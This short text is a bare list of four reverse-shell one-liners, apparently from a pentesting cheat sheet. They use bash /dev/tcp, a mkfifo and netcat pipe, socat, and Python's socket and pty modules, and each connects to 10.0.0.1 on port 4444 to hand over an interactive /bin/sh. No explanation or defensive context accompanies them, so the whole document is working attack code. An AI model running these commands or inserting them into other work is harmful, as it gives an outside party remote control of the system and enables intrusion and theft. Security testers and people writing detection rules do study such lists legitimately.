bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
socat tcp:10.0.0.1:4444 exec:/bin/sh,pty
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
